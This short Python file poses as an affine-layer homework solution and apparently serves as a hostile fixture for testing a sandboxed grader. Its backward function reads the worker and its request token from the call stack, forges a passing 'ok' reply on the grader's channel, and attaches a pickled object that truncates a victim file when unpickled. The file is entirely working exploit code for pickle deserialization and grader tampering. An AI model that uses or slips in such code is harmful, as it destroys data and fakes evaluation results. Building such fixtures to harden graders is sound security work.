"""Answers with the right token and an array of objects, which only unpickling could read."""

import io
import json
import os
import struct
import sys
import time

import numpy as np


def affine_forward(x, w, b):
    return x @ w + b, (x, w, b)


def asked():
    """The worker's own frame, with the token of the request in it."""
    frame = sys._getframe()
    while "head" not in frame.f_locals or "self" not in frame.f_locals:
        frame = frame.f_back
    return frame.f_locals["self"], frame.f_locals["head"].token


class Bomb:
    def __reduce__(self):
        return open, ("@VICTIM@", "w")


def affine_backward(dout, cache):
    worker, token = asked()
    stream = io.BytesIO()
    np.save(stream, np.array([Bomb()], dtype=object), allow_pickle=True)
    blob = stream.getvalue()
    message = {"kind": "ok", "value": ["a", 0], "mutated": [], "shared": [], "calls": {}, "notes": []}
    text = json.dumps({"message": message, "sizes": [len(blob)]}).encode()
    frame = struct.pack("<6s16sIQ", b"refbp1", token, len(text), len(blob)) + text + blob
    os.write(worker.config["replies"], frame)
    time.sleep(60)
